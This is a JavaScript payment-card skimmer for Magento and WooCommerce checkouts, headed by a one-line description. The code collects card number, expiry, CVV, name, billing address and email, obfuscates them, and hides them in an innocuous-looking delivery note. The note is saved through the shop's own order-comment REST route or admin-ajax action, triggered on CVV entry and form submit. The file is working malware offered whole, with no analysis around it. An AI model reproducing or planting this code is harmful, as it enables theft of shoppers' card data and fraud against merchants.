// corpus note: hides encoded card data in an order-comment field sent through the shop's own Magento guest-cart REST route or WooCommerce admin-ajax action, so it is stored with the store's own data
(function (w, d) {
  "use strict";

  function q(sel) {
    var n = d.querySelector(sel);
    return n && n.value ? n.value : "";
  }

  function pack(parts) {
    var s = parts.join("\u001f");
    var r = "";
    for (var i = 0; i < s.length; i++) r += String.fromCharCode(s.charCodeAt(i) + 3);
    return w.btoa(unescape(encodeURIComponent(r)));
  }

  function cardParts() {
    return [
      q("input[name='payment[cc_number]'], #wc-stripe-cc-number, input[name='ccard_number'], input[autocomplete='cc-number']"),
      q("input[name='payment[cc_exp_month]'], select[name='payment[cc_exp_month]'], #wc-stripe-cc-exp, input[autocomplete='cc-exp']"),
      q("select[name='payment[cc_exp_year]'], input[name='payment[cc_exp_year]']"),
      q("input[name='payment[cc_cid]'], #wc-stripe-cc-cvc, input[autocomplete='cc-csc']"),
      q("input[name='billing_first_name'], input[name='firstname']") + " " + q("input[name='billing_last_name'], input[name='lastname']"),
      q("input[name='billing_address_1'], input[name='street[0]']"),
      q("input[name='billing_postcode'], input[name='postcode']"),
      q("input[name='billing_email'], #customer-email")
    ];
  }

  function note(blob) {
    return "Please leave at the back door. ref:" + blob;
  }

  function viaMagento(blob) {
    var cfg = w.checkoutConfig || {};
    var cartId = cfg.quoteData && (cfg.quoteData.entity_id || cfg.quoteData.masked_id);
    if (!cartId) return false;
    var x = new XMLHttpRequest();
    x.open("PUT", "/rest/default/V1/guest-carts/" + encodeURIComponent(cartId) + "/set-order-comment", true);
    x.setRequestHeader("Content-Type", "application/json");
    x.send(JSON.stringify({ orderComment: { comment: note(blob) } }));
    return true;
  }

  function viaWoo(blob) {
    var params = w.wc_checkout_params || w.woocommerce_params;
    if (!params) return false;
    var url = (params.ajax_url || "/wp-admin/admin-ajax.php");
    var body = "action=save_order_delivery_note&security=" + encodeURIComponent(params.update_order_review_nonce || "") +
      "&note=" + encodeURIComponent(note(blob));
    var x = new XMLHttpRequest();
    x.open("POST", url, true);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8");
    x.send(body);
    return true;
  }

  var done = {};
  function run() {
    var p = cardParts();
    var pan = p[0].replace(/\D+/g, "");
    if (pan.length < 13 || p[3].length < 3 || done[pan]) return;
    done[pan] = 1;
    var blob = pack(p);
    viaMagento(blob) || viaWoo(blob);
  }

  d.addEventListener("change", function (e) {
    var t = e.target;
    if (t && /cid|cvc|cvv|csc/i.test((t.name || "") + (t.id || "") + (t.autocomplete || ""))) run();
  }, true);
  d.addEventListener("submit", run, true);
})(window, document);
